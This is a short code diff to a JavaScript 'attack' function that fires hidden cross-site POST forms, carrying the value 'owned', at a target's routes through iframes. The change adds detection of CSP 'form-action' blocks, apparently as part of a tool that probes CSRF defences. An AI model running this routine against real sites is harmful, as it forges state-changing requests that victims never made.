@@ -47,12 +47,14 @@ export async function attack({ target, routes, frames, sockets = [] }) {
   const send = (path, enctype) =>
     new Promise((done) => {
       tried++;
-      const sink = make("iframe", { name: `sink${tried}` });
+      const sink = make("iframe", { name: `sink${document.forms.length}` });
       const form = make("form", { method: "post", action: target + path, enctype });
       form.target = sink.name;
       form.append(make("input", { name: "summary", value: "owned" }));
       document.body.append(sink, form);
       sink.addEventListener("load", done, { once: true });
+      const refused = ({ effectiveDirective }) => effectiveDirective === "form-action" && done();
+      document.addEventListener("securitypolicyviolation", refused); // then nothing is loaded
       form.submit();
     });
   const listen = (path) =>
